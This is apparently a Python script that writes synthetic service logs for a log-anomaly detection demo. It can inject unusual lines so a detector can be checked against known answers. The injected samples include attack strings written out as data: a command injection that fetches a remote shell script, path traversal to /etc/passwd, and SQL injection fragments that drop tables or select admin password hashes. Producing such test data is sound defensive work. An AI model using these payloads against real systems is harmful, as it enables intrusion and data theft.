#!/usr/bin/env python3
"""Synthetic service logs for the recurd log-anomaly demo (standard library only).

Writes realistic-looking lines from a handful of services (an API gateway, an auth
service, a billing worker, a cache, a scheduler): ISO timestamps, levels, host names,
request ids, methods, paths with ids, status codes, latencies and key=value details.
The same seed gives the same bytes, so the committed model's corpus can be rebuilt.

With --inject N, N unusual lines are scattered through the log: stack traces, odd paths
(traversal, scanners), SQL fragments, hex dumps and raw binary junk. Their 1-based line
numbers go to --truth FILE (one a line) so a demo can check what it finds.

    python3 samples/logs/generate_logs.py --bytes 2000000 --seed 1 > corpus.log
    python3 samples/logs/generate_logs.py --bytes 200000 --seed 7 --inject 10 --truth injected.txt > fresh.log
"""

import argparse
import datetime
import os
import random
import sys

SERVICES = {
    "api-gateway": ["gw-1", "gw-2", "gw-3"],
    "auth": ["auth-1", "auth-2"],
    "billing": ["bill-1"],
    "cache": ["cache-1", "cache-2"],
    "scheduler": ["sched-1"],
}

PATHS = [
    ("GET", "/api/v1/users/{id}"),
    ("GET", "/api/v1/users/{id}/orders"),
    ("POST", "/api/v1/orders"),
    ("GET", "/api/v1/orders/{id}"),
    ("PUT", "/api/v1/orders/{id}/status"),
    ("GET", "/api/v1/products?page={page}"),
    ("GET", "/api/v1/products/{id}"),
    ("DELETE", "/api/v1/sessions/{id}"),
    ("GET", "/healthz"),
    ("GET", "/metrics"),
    ("POST", "/api/v1/login"),
    ("GET", "/static/app.{hash}.js"),
]

WORDS = ["user", "order", "product", "session", "invoice", "cart", "token"]
JOBS = ["reindex-products", "expire-sessions", "send-digest", "rollup-metrics", "rotate-keys"]


class LogWriter:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.time = datetime.datetime(2024, 3, 14, 9, 0, 0, tzinfo=datetime.timezone.utc)

    # -- pieces -----------------------------------------------------------------

    def stamp(self, advance=True):
        if advance:
            self.time += datetime.timedelta(milliseconds=self.rng.expovariate(1 / 40.0))
        return self.time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{self.time.microsecond // 1000:03d}Z"

    def request_id(self):
        return "%08x" % self.rng.getrandbits(32)

    def latency(self, slow=False):
        ms = self.rng.lognormvariate(3.0 if not slow else 5.5, 0.6)
        return f"{ms:.1f}ms"

    def path(self):
        method, template = self.rng.choice(PATHS)
        return method, template.format(id=self.rng.randint(1, 99999), page=self.rng.randint(1, 40),
                                       hash="%06x" % self.rng.getrandbits(24))

    def prefix(self, level, service, advance=True):
        host = self.rng.choice(SERVICES[service])
        return f"{self.stamp(advance)} {level:<5} {service}[{host}]"

    # -- ordinary lines ------------------------------------------------------------

    def gateway(self):
        method, path = self.path()
        status = self.rng.choices([200, 201, 204, 301, 400, 401, 404, 500, 503],
                                  [70, 8, 4, 2, 4, 3, 6, 1, 1])[0]
        level = "INFO" if status < 400 else ("WARN" if status < 500 else "ERROR")
        slow = status >= 500 or self.rng.random() < 0.03
        return (f"{self.prefix(level, 'api-gateway')} req={self.request_id()} {method} {path} "
                f"status={status} latency={self.latency(slow)} bytes={self.rng.randint(120, 48000)}")

    def auth(self):
        user = self.rng.randint(1, 99999)
        kind = self.rng.random()
        if kind < 0.6:
            return f"{self.prefix('INFO', 'auth')} req={self.request_id()} login ok user={user} method=password"
        if kind < 0.8:
            return f"{self.prefix('INFO', 'auth')} req={self.request_id()} token refreshed user={user} ttl=3600s"
        if kind < 0.95:
            return f"{self.prefix('WARN', 'auth')} req={self.request_id()} login failed user={user} reason=bad_password attempt={self.rng.randint(1, 5)}"
        return f"{self.prefix('ERROR', 'auth')} req={self.request_id()} ldap timeout after {self.latency(True)} user={user}"

    def billing(self):
        invoice = self.rng.randint(100000, 999999)
        amount = self.rng.randint(100, 250000) / 100
        kind = self.rng.random()
        if kind < 0.7:
            return f"{self.prefix('INFO', 'billing')} invoice={invoice} charged amount={amount:.2f} currency=EUR took={self.latency()}"
        if kind < 0.9:
            return f"{self.prefix('DEBUG', 'billing')} invoice={invoice} db query rows={self.rng.randint(0, 40)} took={self.latency()}"
        return f"{self.prefix('WARN', 'billing')} invoice={invoice} card declined code={self.rng.choice(['51', '05', '14', '54'])} retry_in=60s"

    def cache(self):
        key = f"{self.rng.choice(WORDS)}:{self.rng.randint(1, 99999)}"
        kind = self.rng.random()
        if kind < 0.55:
            return f"{self.prefix('DEBUG', 'cache')} hit key={key} age={self.rng.randint(0, 600)}s"
        if kind < 0.9:
            return f"{self.prefix('DEBUG', 'cache')} miss key={key} loaded in {self.latency()}"
        return (f"{self.prefix('INFO', 'cache')} evicted {self.rng.randint(10, 5000)} keys "
                f"used={self.rng.randint(40, 99)}% pool active={self.rng.randint(1, 20)}/20")

    def scheduler(self):
        job = self.rng.choice(JOBS)
        kind = self.rng.random()
        if kind < 0.5:
            return f"{self.prefix('INFO', 'scheduler')} job={job} started run={self.rng.randint(1, 9999)}"
        if kind < 0.95:
            return f"{self.prefix('INFO', 'scheduler')} job={job} finished run={self.rng.randint(1, 9999)} took={self.latency(True)}"
        return f"{self.prefix('ERROR', 'scheduler')} job={job} failed run={self.rng.randint(1, 9999)} error=\"deadline exceeded\" will_retry=true"

    def ordinary(self):
        return self.rng.choices([self.gateway, self.auth, self.billing, self.cache, self.scheduler],
                                [50, 15, 10, 20, 5])[0]()

    # -- unusual lines ------------------------------------------------------------

    def unusual(self, at):
        """One line that does not belong, stamped `at` (the time of the line before it):
        bytes, since binary junk is not UTF-8."""
        self.time = at
        kind = self.rng.randrange(5)
        rid = self.request_id()
        if kind == 0:
            frames = self.rng.choice([
                'Exception in thread "pool-3-thread-7" java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null\tat com.acme.billing.Invoice.total(Invoice.java:88)',
                'Traceback (most recent call last): File "/srv/app/handlers.py", line 212, in handle: KeyError: \'customer_id\'',
                'panic: runtime error: invalid memory address or nil pointer dereference [signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x4a5f2e]',
            ])
            return f"{self.prefix('ERROR', 'billing', advance=False)} {frames}".encode()
        if kind == 1:
            odd = self.rng.choice([
                "/../../../../etc/passwd", "/wp-admin/setup-config.php?step=1", "/cgi-bin/;wget${IFS}http://198.51.100.7/x.sh",
                "/api/v1/users/%2e%2e%2f%2e%2e%2fadmin", "/.git/config", "/phpmyadmin/index.php?lang=en",
            ])
            return (f"{self.prefix('WARN', 'api-gateway', advance=False)} req={rid} GET {odd} status=404 "
                    f"latency={self.latency()} bytes=0").encode()
        if kind == 2:
            sql = self.rng.choice([
                "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE sessions; --",
                "UNION SELECT username, password_hash FROM admin_users LIMIT 1 OFFSET 0",
                "INSERT INTO audit_log VALUES (NULL, 0x61646d696e, NOW()); --",
            ])
            return f"{self.prefix('ERROR', 'billing', advance=False)} db query failed: syntax error near \"{sql}\"".encode()
        if kind == 3:
            dump = " ".join("%02x" % self.rng.getrandbits(8) for _ in range(24))
            return f"{self.prefix('DEBUG', 'cache', advance=False)} corrupt entry key=session:{self.rng.randint(1, 99999)} raw={dump}".encode()
        junk = bytes(self.rng.choice([b for b in range(256) if b not in (10, 13)]) for _ in range(self.rng.randint(40, 90)))
        return junk


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--bytes", type=int, default=2_000_000, help="stop after about this many bytes (default: 2000000)")
    parser.add_argument("--seed", type=int, default=1, help="random seed (default: 1)")
    parser.add_argument("--inject", type=int, default=0, help="scatter this many unusual lines through the log (default: 0)")
    parser.add_argument("--truth", help="write the 1-based line numbers of the injected lines here")
    args = parser.parse_args()

    writer = LogWriter(args.seed)
    lines, times = [], []
    total = 0
    while total < args.bytes:
        line = writer.ordinary().encode()
        lines.append(line)
        times.append(writer.time)
        total += len(line) + 1
    injected = []
    if args.inject > 0:
        # Pick positions first, then insert from the back so earlier positions stay valid.
        positions = sorted(writer.rng.sample(range(1, len(lines)), min(args.inject, len(lines) - 1)))
        for position in reversed(positions):
            lines.insert(position, writer.unusual(at=times[position - 1]))
        injected = [p + i + 1 for i, p in enumerate(positions)]  # 1-based, after the inserts
    if args.truth:
        with open(args.truth, "w") as f:
            f.writelines(f"{n}\n" for n in injected)
    try:
        out = sys.stdout.buffer
        for line in lines:
            out.write(line + b"\n")
        out.flush()
    except BrokenPipeError:  # `| head` is done reading: not an error
        sys.stderr.close()
        os._exit(0)


if __name__ == "__main__":
    main()
